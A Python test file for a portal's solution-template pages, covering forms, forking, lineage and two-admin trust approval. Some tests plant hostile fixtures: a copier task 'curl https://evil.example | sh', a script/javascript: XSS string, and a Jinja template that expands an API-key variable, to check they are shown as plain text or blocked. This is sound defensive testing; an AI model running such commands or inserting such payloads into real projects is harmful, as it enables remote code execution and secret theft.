"""The template pages (AppTest): list, open, fill the form, per-field errors, preview, fork, lineage, admin."""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest
from sqlmodel import Session, select

from catalog.models import CatalogModel, ModelStatus
from portal.core.audit import AuditEvent
from portal.core.auth import Role
from portal.core.users import User
from portal.ui import plain
from templates.forks import fork_template
from templates.models import ForkDestination, TemplateEntry, TemplateFork
from templates.registry import TemplateStore, approve_trust, register_template, request_trust
from tests.conftest import REPO_ROOT
from tests.templates.conftest import ANSWERS_FILE, SIMPLE, git_repo, write_template
from tests.templates.test_registry_and_updates import git, new_template_version
from tests.views.support import errors, shown

LIST, DETAIL, ADMIN = "views/templates.py", "views/template.py", "views/template_admin.py"
PREVIEW_BUTTON, FORK_BUTTON = "FormSubmitter:tpl_form-Preview", "FormSubmitter:tpl_form-Fork"


@pytest.fixture
def models(portal_db, served_models):
    """The fake gateway's chat models, plus an approved embedding model."""
    with Session(portal_db) as session:
        session.add(CatalogModel(name="fake-embed", display_name="Fake Embed", status=ModelStatus.APPROVED.value,
                                 mode="embedding"))
        session.commit()


@pytest.fixture
def open_page(open_page, models):
    """The shared open_page, once the catalog models the template forms offer exist."""
    return open_page


def table(at, column: str):
    """The table holding the column (AppTest does not look dataframes up by key)."""
    return next(d.value for d in at.dataframe if column in d.value.columns)


def q(at, name: str, template: str = "batch-summariser"):
    """The widget of a question, whatever its kind."""
    key = f"tpl_q_{template}_{name}"
    for kind in ("text_input", "number_input", "selectbox", "multiselect", "checkbox", "text_area"):
        found = [w for w in getattr(at, kind) if w.key == key]
        if found:
            return found[0]
    raise AssertionError(f"no widget {key}")


@pytest.mark.parametrize("role", [r.value for r in Role])
def test_template_pages_run_for_every_role(open_page, role) -> None:
    at = open_page(role, LIST)
    assert not at.error
    names = set(table(at, "forks")["name"])
    assert names == {"rag-chatbot", "batch-summariser", "extraction-service", "streamlit-tool"}
    at = open_page(role, DETAIL, template="rag-chatbot")
    assert not at.error and "RAG chatbot over a folder of documents" in shown(at)
    assert "Nobody has forked this template yet." in shown(at)
    can_fork = role != "viewer"
    assert bool([b for b in at.button if b.key == FORK_BUTTON]) is can_fork
    assert ("Forking needs the contributor role" in shown(at)) is (not can_fork)


def test_open_a_template_from_the_list(open_page) -> None:
    at = open_page("contributor", LIST)
    at.selectbox(key="tpl_open").set_value("extraction-service").run()
    at.button(key="tpl_open_button").click().run()
    assert not at.exception and at.query_params["template"] == "extraction-service"


def test_search_narrows_the_list(open_page) -> None:
    at = open_page("viewer", LIST)
    at.text_input(key="tpl_search").input("streamlit").run()
    assert list(table(at, "forks")["name"]) == ["streamlit-tool"]
    at.text_input(key="tpl_search").input("nothing like this").run()
    assert "No template matches." in shown(at)


def test_the_form_has_a_widget_per_question_type_and_models_come_from_the_catalog(open_page) -> None:
    at = open_page("contributor", DETAIL, template="rag-chatbot")
    assert q(at, "project_name", "rag-chatbot").value == "Policy assistant"
    assert q(at, "package_name", "rag-chatbot").value == ""  # computed from the project name unless typed
    assert q(at, "chunk_size", "rag-chatbot").value == 800
    assert q(at, "temperature", "rag-chatbot").value == 0.2
    assert q(at, "cite_sources", "rag-chatbot").value is True
    assert q(at, "file_types", "rag-chatbot").value == [".md", ".txt"]
    assert q(at, "answer_style", "rag-chatbot").options == ["Concise (two or three sentences)",
                                                             "Detailed (a paragraph with steps)"]
    assert q(at, "model", "rag-chatbot").options == ["fake-large", "fake-small"]
    assert q(at, "embedding_model", "rag-chatbot").options == ["fake-embed"]
    at = open_page("contributor", DETAIL, template="extraction-service")
    assert "vendor: string" in q(at, "fields", "extraction-service").value


def test_bad_answers_show_under_their_fields_and_keep_the_other_answers(open_page, portal_db) -> None:
    at = open_page("contributor", DETAIL, template="batch-summariser")
    q(at, "project_name").input("My digest")
    q(at, "max_words").set_value(5)
    q(at, "package_name").input("9-bad")
    at.button(key=FORK_BUTTON).click().run()
    assert not at.exception
    assert "Max words: Pick between 20 and 2000 words." in errors(at)
    assert any(e.startswith("Package name: Use lower-case letters") for e in errors(at))
    assert "2 answer(s) need another look; each says why under its field." in errors(at)
    assert q(at, "project_name").value == "My digest" and q(at, "max_words").value == 5
    with Session(portal_db) as session:
        assert session.exec(select(TemplateFork)).all() == []


def test_preview_then_fork_to_zip_then_see_it_in_the_lineage(open_page, portal_db, user_with_role) -> None:
    at = open_page("contributor", DETAIL, template="batch-summariser")
    q(at, "project_name").input("Claims digest")
    q(at, "tone").set_value("executive")
    at.button(key=PREVIEW_BUTTON).click().run()
    assert not at.exception and not at.error
    tree = table(at, "bytes")
    assert "claims_digest/summarise.py" in list(tree["file"])
    at.selectbox(key="tpl_preview_file").set_value("claims_digest/summarise.py").run()
    assert any('TONES["executive"]' in c.value for c in at.code)
    at.button(key=FORK_BUTTON).click().run()
    assert not at.exception and not at.error
    assert "Forked (record 1)" in shown(at)
    with Session(portal_db) as session:
        fork = session.exec(select(TemplateFork)).one()
        assert fork.answers["tone"] == "executive" and fork.destination == "zip"
        assert fork.team == user_with_role("contributor").team
        assert session.exec(select(AuditEvent).where(AuditEvent.action == "template.forked")).one()
    forks = table(at, "update available")
    assert list(forks["project"]) == ["claims-digest"] and list(forks["update available"]) == [""]
    assert list(forks["output"]) == ["zip download"]  # the label the output choice shows
    assert [m.value for m in at.metric][:2] == ["1", "1"]


def test_fork_to_git_shows_the_repository(open_page, portal_db, isolated_portal) -> None:
    at = open_page("contributor", DETAIL, template="streamlit-tool")
    at.radio(key="tpl_destination").set_value("git")
    at.button(key=FORK_BUTTON).click().run()
    assert not at.exception and not at.error
    repo = isolated_portal / "var" / "template-repos" / "text-helper"
    assert any(c.value == str(repo) for c in at.code)
    log = subprocess.run(["git", "log", "--oneline"], cwd=repo, capture_output=True, text=True).stdout
    assert "Generated from template streamlit-tool" in log


def test_an_unknown_template_says_so(open_page) -> None:
    at = open_page("viewer", DETAIL, template="nope")
    assert errors(at) == ["There is no template 'nope'."]


@pytest.mark.parametrize("role", ["viewer", "contributor", "reviewer"])
def test_template_admin_refuses_non_admins(open_portal, user_with_role, models, role) -> None:
    at = open_portal(user_with_role(role), script=str(REPO_ROOT / "portal" / "views" / "template_admin.py"))
    assert not at.exception
    assert errors(at) == [f"Your role ({role}) may not register solution templates and mark them trusted; "
                          "that needs the admin role. Ask a portal admin if you need it."]


def second_admin(portal_db) -> User:
    """Another admin than the one `open_page("admin", ...)` signs in as."""
    with Session(portal_db, expire_on_commit=False) as session:
        admin = User(email="zz-second-admin@example.com", name="Second Admin", role=Role.ADMIN.value,
                     department="Engineering", team="Data Platform")
        session.add(admin)
        session.commit()
        return admin


def test_admin_registers_a_template_with_tasks_and_trusts_it(open_page, portal_db, tmp_path) -> None:
    repo = git_repo(write_template(tmp_path / "faq-bot", SIMPLE + "_tasks:\n  - \"true\"\n", {"a.txt": "a"}))
    at = open_page("admin", ADMIN)
    at.text_input(key="tpl_register_url").input(str(repo))
    at.button(key="FormSubmitter:tpl_register-Register").click().run()
    assert not at.exception and not at.error
    assert "Registered faq-bot version" in shown(at) and "trust it below" in shown(at)
    at.selectbox(key="tpl_trust_pick").set_value("faq-bot").run()
    assert "- tasks" in shown(at)
    at.button(key="tpl_trust_request_trust").click().run()
    assert "Requested trust for faq\\-bot: waiting for a second admin." in shown(at)
    assert "waiting for a second admin to approve it" in shown(at) 
    assert "tpl_trust_approve_trust" not in [b.key for b in at.button]
    with Session(portal_db) as session:
        assert not session.exec(select(TemplateEntry).where(TemplateEntry.name == "faq-bot")).one().trusted

    other = open_page(second_admin(portal_db), ADMIN)
    other.selectbox(key="tpl_trust_pick").set_value("faq-bot").run()
    assert "asks to trust revision 2 of faq\\-bot" in shown(other) and "- tasks" in shown(other)
    other.button(key="tpl_trust_approve_trust").click().run()
    assert "faq\\-bot is now trusted." in shown(other)
    with Session(portal_db) as session:
        assert session.exec(select(TemplateEntry).where(TemplateEntry.name == "faq-bot")).one().trusted


@pytest.fixture
def page_store(isolated_portal) -> TemplateStore:
    """The store the pages use: the default settings under the test's folder."""
    return TemplateStore(sources_dir=isolated_portal / "var" / "template-sources",
                         repos_dir=isolated_portal / "var" / "template-repos")


@pytest.fixture
def requested_faq_bot(portal_db, tmp_path, user_with_role, page_store):
    """A template with a task, registered by the page's admin, its trust asked for by a second admin."""
    tasks = SIMPLE + "_tasks:\n  - \"true\"\n"
    repo = git_repo(write_template(tmp_path / "faq-bot", tasks, {"a.txt": "a"}))
    admin, other = user_with_role("admin"), second_admin(portal_db)
    with Session(portal_db) as session:
        seen = register_template(session=session, actor=admin, store=page_store, url=str(repo)).revision
        request_trust(session=session, store=page_store, actor=other, name="faq-bot", base_revision=seen)
        session.commit()
    return repo, tasks, admin, other, seen


def test_a_pending_request_shows_what_is_new_since_the_last_trusted_version(open_page, portal_db, page_store,
                                                                            requested_faq_bot):
    repo, tasks, admin, other, seen = requested_faq_bot
    store = page_store
    with Session(portal_db) as session:
        approve_trust(session=session, store=store, actor=admin, name="faq-bot", base_revision=seen + 1)
        session.commit()
    (repo / "copier.yml").write_text(tasks + "_migrations:\n  - \"true\"\n")
    git(repo, "commit", "-qam", "migrations")
    with Session(portal_db) as session:
        entry = register_template(session=session, actor=admin, store=store, url=str(repo))
        request_trust(session=session, store=store, actor=other, name="faq-bot", base_revision=entry.revision)
        session.commit()
    at = open_page("admin", ADMIN)
    at.selectbox(key="tpl_trust_pick").set_value("faq-bot").run()
    assert "- migrations (new since the last trusted version)" in shown(at) and "- tasks\n" in shown(at) + "\n"
    asks = plain("zz-second-admin@example.com") + " asks to trust revision 5 of faq"
    assert [w.value for w in at.warning if w.value.startswith(asks)]
    assert "tpl_trust_approve_trust" in [b.key for b in at.button]


HOSTILE = ('  help: "<script>alert(1)</script> [click me](javascript:alert(1)) **bold** :material/home: '
           '$x^2$ https://evil.example"\n')


def test_the_approving_admin_sees_the_diff_of_unsafe_parts_as_plain_text(open_page, portal_db, page_store,
                                                                         requested_faq_bot):
    repo, tasks, admin, other, seen = requested_faq_bot
    store = page_store
    at = open_page("admin", ADMIN)
    at.selectbox(key="tpl_trust_pick").set_value("faq-bot").run()
    assert "copier.yml: never trusted before" in shown(at) and [c.value for c in at.code] == [tasks.rstrip("\n")]
    at.button(key="tpl_trust_approve_trust").click().run()
    assert "faq\\-bot is now trusted." in shown(at)

    (repo / "copier.yml").write_text(tasks.replace("default: hello\n", "default: hello\n" + HOSTILE)
                                     .replace('"true"', '"curl https://evil.example | sh"'))
    git(repo, "commit", "-qam", "hostile")
    with Session(portal_db) as session:
        entry = register_template(session=session, actor=admin, store=store, url=str(repo))
        request_trust(session=session, store=store, actor=other, name="faq-bot", base_revision=entry.revision)
        session.commit()
    at = open_page("admin", ADMIN)
    at.selectbox(key="tpl_trust_pick").set_value("faq-bot").run()
    assert not at.exception and "copier.yml: changed" in shown(at)
    [diff] = at.code
    assert diff.language == "diff" and "+" + HOSTILE in diff.value
    assert diff.value.endswith('-  - "true"\n+  - "curl https://evil.example | sh"')
    # Nothing of the template's text reaches a Markdown element, where it could become a link, markup or script.
    assert not [m.value for m in at.markdown if "script" in m.value or "evil" in m.value or "click me" in m.value]
    assert "tpl_trust_approve_trust" in [b.key for b in at.button]


def test_registering_something_that_is_not_a_template_keeps_the_input(open_page, tmp_path) -> None:
    folder = tmp_path / "plain"
    folder.mkdir()
    (folder / "x.txt").write_text("x")
    at = open_page("admin", ADMIN)
    at.text_input(key="tpl_register_url").input(str(git_repo(folder)))
    at.button(key="FormSubmitter:tpl_register-Register").click().run()
    assert errors(at) == ["checkout has no copier.yml at its top level, so it is not a copier template."]
    assert at.text_input(key="tpl_register_url").value == str(folder)


def test_zip_download_holds_the_project(open_page) -> None:
    at = open_page("contributor", DETAIL, template="extraction-service")
    at.button(key=FORK_BUTTON).click().run()
    assert not at.exception and "Forked" in shown(at)
    assert "Download zip" in [b.proto.label for b in at.get("download_button")]


def test_an_outdated_git_fork_is_updated_from_the_page_and_the_conflict_reported(open_page, portal_db, tmp_path,
                                                                                 user_with_role, page_store):
    """A fork from the pages' store, and a newer version of its template."""
    store = page_store
    repo = git_repo(write_template(tmp_path / "greeter", SIMPLE, {**ANSWERS_FILE,
                                   "hello.txt.jinja": "{{ greeting }} v1\nsame\n"}), tag="1.0.0")
    admin, contributor = user_with_role("admin"), user_with_role("contributor")
    with Session(portal_db, expire_on_commit=False) as session:
        register_template(session=session, actor=admin, store=store, url=str(repo))
        fork = fork_template(session=session, actor=contributor, store=store, template_name="greeter", answers={},
                             destination=ForkDestination.GIT).fork
        session.commit()
    (Path(fork.repo_path) / "hello.txt").write_text("hello MINE\nsame\n")  # the user's own change
    git(Path(fork.repo_path), "commit", "-qam", "mine")
    new_template_version(repo, "{{ greeting }} v2\nsame\n", "1.1.0")
    with Session(portal_db) as session:
        register_template(session=session, actor=admin, store=store, url=str(repo))
        session.commit()

    at = open_page("contributor", DETAIL, template="greeter")
    assert list(table(at, "update available")["update available"]) == ["yes"]
    assert "Update available" in shown(at)
    at.button(key="tpl_update").click().run()
    assert not at.exception
    assert any("template-update-2" in w.value and "hello.txt" in w.value for w in at.warning)
    assert any("+added in the new version" in c.value for c in at.code)


def test_a_template_reaching_for_the_server_or_looping_forever_gets_a_clear_message(open_page, isolated_portal,
                                                                                    tmp_path, user_with_role,
                                                                                    portal_db, monkeypatch,
                                                                                    page_store):
    monkeypatch.setenv("PORTAL_GATEWAY_API_KEY", "sk-view-canary-7")
    monkeypatch.setenv("PORTAL_TEMPLATES_RENDER_TIMEOUT_S", "2")
    store = page_store
    loops = "{% for a in range(100000) %}{% for b in range(100000) %}{% endfor %}{% endfor %}"
    bodies = {"leaky": "{{ '$PORTAL_GATEWAY_API_KEY' | expandvars }}", "looper": loops}
    with Session(portal_db) as session:
        for name, body in bodies.items():
            repo = git_repo(write_template(tmp_path / name, SIMPLE, {"x.txt.jinja": body}), tag="1.0.0")
            register_template(session=session, actor=user_with_role("admin"), store=store, url=str(repo))
        session.commit()

    at = open_page("contributor", DETAIL, template="leaky")
    at.button(key=PREVIEW_BUTTON).click().run()
    assert not at.exception and "sk-view-canary-7" not in " ".join(errors(at) + [shown(at)])
    assert any("the portal leaves out 'expandvars'" in e for e in errors(at))
    at = open_page("contributor", DETAIL, template="looper")
    at.button(key=PREVIEW_BUTTON).click().run()
    assert not at.exception
    assert any("the template took longer than 2 s to render (PORTAL_TEMPLATES_RENDER_TIMEOUT_S)" in e
               for e in errors(at))


def test_the_form_starts_from_the_portals_gateway_and_a_model_it_serves(open_page, fake_gateway) -> None:
    at = open_page("contributor", DETAIL, template="rag-chatbot")
    assert q(at, "gateway_url", "rag-chatbot").value == fake_gateway.url
    assert q(at, "model", "rag-chatbot").value == "fake-large"  # the template's default is not served here
    assert not [w for w in at.text_input if "key" in (w.key or "")]  # the API key is never asked
